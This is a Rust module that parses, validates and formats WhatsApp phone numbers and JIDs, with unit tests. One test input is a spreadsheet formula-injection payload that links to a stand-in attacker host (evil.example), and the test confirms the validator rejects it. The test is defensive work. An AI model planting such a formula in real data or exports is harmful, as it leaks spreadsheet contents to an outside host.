//! Phone numbers and WhatsApp JIDs: normalising what users type, telling
//! kinds of JID apart, and formatting numbers for reading.

use thiserror::Error;

/// Suffix of a person's phone JID.
pub const PHONE_SUFFIX: &str = "@s.whatsapp.net";
/// Suffix of a hidden-number (`@lid`) identity.
pub const LID_SUFFIX: &str = "@lid";

/// What a JID names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JidKind {
    /// `<digits>@s.whatsapp.net`
    Phone,
    /// `<digits>@lid`
    Lid,
    /// `<id>@g.us`
    Group,
    /// `<id>@newsletter`
    Channel,
    /// Anything else.
    Other,
}

/// Tells which kind of identity a JID is.
pub fn jid_kind(jid: &str) -> JidKind {
    match jid.rsplit_once('@').map(|(_, server)| server) {
        Some("s.whatsapp.net") => JidKind::Phone,
        Some("lid") => JidKind::Lid,
        Some("g.us") => JidKind::Group,
        Some("newsletter") => JidKind::Channel,
        _ => JidKind::Other,
    }
}

/// The phone digits of a phone JID (`5511…@s.whatsapp.net` → `5511…`),
/// ignoring a device suffix (`:12`).
pub fn phone_digits(jid: &str) -> Option<&str> {
    let user = jid.strip_suffix(PHONE_SUFFIX)?;
    let user = user.split(':').next().unwrap_or(user);
    (!user.is_empty() && user.bytes().all(|b| b.is_ascii_digit())).then_some(user)
}

/// Whether `jid` is a person's identity as the contract defines it:
/// `<digits>@s.whatsapp.net` (with an optional `:<device>`) or
/// `<digits>@lid`. Anything else from the server is not stored.
pub fn is_valid_jid(jid: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.len() <= 32 && s.bytes().all(|b| b.is_ascii_digit());
    if let Some(user) = jid.strip_suffix(PHONE_SUFFIX) {
        return match user.split_once(':') {
            Some((number, device)) => digits(number) && digits(device),
            None => digits(user),
        };
    }
    jid.strip_suffix(LID_SUFFIX).is_some_and(digits)
}

/// Why typed text is not a number we can act on.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum NumberError {
    /// Groups cannot be blocked.
    #[error("{0} is a group: WhatsApp blocks people, not groups")]
    Group(String),
    /// Channels cannot be blocked.
    #[error("{0} is a channel: WhatsApp blocks people, not channels")]
    Channel(String),
    /// Not a number nor a JID.
    #[error("\"{0}\" is not a phone number: type it with country code, e.g. +55 11 99999-9999")]
    NotANumber(String),
}

/// Normalises what a user typed (`+55 (11) 99999-9999`, `5511999999999`,
/// or a full JID) into what the API takes: the digits, or the JID kept as
/// it is. Groups and channels are refused.
pub fn normalize(input: &str) -> Result<String, NumberError> {
    let input = input.trim();
    if input.contains('@') {
        return match jid_kind(input) {
            JidKind::Phone if phone_digits(input).is_some() => Ok(input.to_string()),
            JidKind::Lid if is_valid_jid(input) => Ok(input.to_string()),
            JidKind::Group => Err(NumberError::Group(input.to_string())),
            JidKind::Channel => Err(NumberError::Channel(input.to_string())),
            _ => Err(NumberError::NotANumber(input.to_string())),
        };
    }
    let allowed = |c: char| c.is_ascii_digit() || " +-().".contains(c);
    let digits: String = input.chars().filter(char::is_ascii_digit).collect();
    if !input.chars().all(allowed) || !(7..=15).contains(&digits.len()) {
        return Err(NumberError::NotANumber(input.to_string()));
    }
    Ok(digits)
}

/// Length of the country calling code at the start of `digits` (ITU
/// E.164 zones: 1 and 7 are one digit, a known set is two, the rest three).
fn country_code_len(digits: &str) -> usize {
    const TWO_DIGIT: &[&str] = &[
        "20", "27", "30", "31", "32", "33", "34", "36", "39", "40", "41", "43", "44", "45", "46",
        "47", "48", "49", "51", "52", "53", "54", "55", "56", "57", "58", "60", "61", "62", "63",
        "64", "65", "66", "81", "82", "84", "86", "90", "91", "92", "93", "94", "95", "98",
    ];
    match digits.as_bytes().first() {
        Some(b'1') | Some(b'7') => 1,
        _ if digits.len() >= 2 && TWO_DIGIT.contains(&&digits[..2]) => 2,
        _ => 3.min(digits.len()),
    }
}

/// Formats international digits for reading: `5511999999999` →
/// `+55 11 99999-9999`, `14155550123` → `+1 415 555-0123`.
pub fn format_phone(digits: &str) -> String {
    if digits.len() < 8 {
        return format!("+{digits}");
    }
    let cc_len = country_code_len(digits);
    let (cc, national) = digits.split_at(cc_len);
    let area_len = if cc == "1" { 3 } else { 2 };
    if national.len() < area_len + 6 {
        let (head, tail) = national.split_at(national.len().saturating_sub(4));
        return format!("+{cc} {head}-{tail}");
    }
    let (area, rest) = national.split_at(area_len);
    let (head, tail) = rest.split_at(rest.len() - 4);
    format!("+{cc} {area} {head}-{tail}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalises_common_forms() {
        assert_eq!(normalize("+55 (11) 99999-9999").unwrap(), "5511999999999");
        assert_eq!(normalize("5511999999999").unwrap(), "5511999999999");
        assert_eq!(
            normalize(" 5511999999999@s.whatsapp.net ").unwrap(),
            "5511999999999@s.whatsapp.net"
        );
        assert_eq!(normalize("123456789@lid").unwrap(), "123456789@lid");
    }

    #[test]
    fn refuses_groups_channels_and_garbage() {
        assert!(matches!(
            normalize("1203630@g.us"),
            Err(NumberError::Group(_))
        ));
        assert!(matches!(
            normalize("99@newsletter"),
            Err(NumberError::Channel(_))
        ));
        assert!(matches!(
            normalize("call me"),
            Err(NumberError::NotANumber(_))
        ));
        assert!(matches!(
            normalize("12345"),
            Err(NumberError::NotANumber(_))
        ));
        assert!(matches!(
            normalize("abc@s.whatsapp.net"),
            Err(NumberError::NotANumber(_))
        ));
    }

    #[test]
    fn only_digits_before_the_server_make_a_jid() {
        for good in [
            "5511999999999@s.whatsapp.net",
            "5511999999999:12@s.whatsapp.net",
            "123456789@lid",
        ] {
            assert!(is_valid_jid(good), "{good}");
        }
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid",
            "@lid",
            "12 34@lid",
            "1@g.us",
            "abc@s.whatsapp.net",
            "1:@s.whatsapp.net",
            "5511999999999",
            "+5511999999999@s.whatsapp.net",
        ] {
            assert!(!is_valid_jid(bad), "{bad}");
        }
    }

    #[test]
    fn kinds_and_digits() {
        assert_eq!(jid_kind("1@s.whatsapp.net"), JidKind::Phone);
        assert_eq!(jid_kind("1@lid"), JidKind::Lid);
        assert_eq!(jid_kind("1@g.us"), JidKind::Group);
        assert_eq!(jid_kind("1@newsletter"), JidKind::Channel);
        assert_eq!(jid_kind("nonsense"), JidKind::Other);
        assert_eq!(
            phone_digits("5511999999999:3@s.whatsapp.net"),
            Some("5511999999999")
        );
        assert_eq!(phone_digits("123@lid"), None);
    }

    #[test]
    fn formats_for_reading() {
        assert_eq!(format_phone("5511999999999"), "+55 11 99999-9999");
        assert_eq!(format_phone("14155550123"), "+1 415 555-0123");
        assert_eq!(format_phone("4915112345678"), "+49 15 11234-5678");
        assert_eq!(format_phone("447911123456"), "+44 79 1112-3456");
        assert_eq!(format_phone("35312345678"), "+353 12 34-5678");
        assert_eq!(format_phone("12345"), "+12345");
    }
}
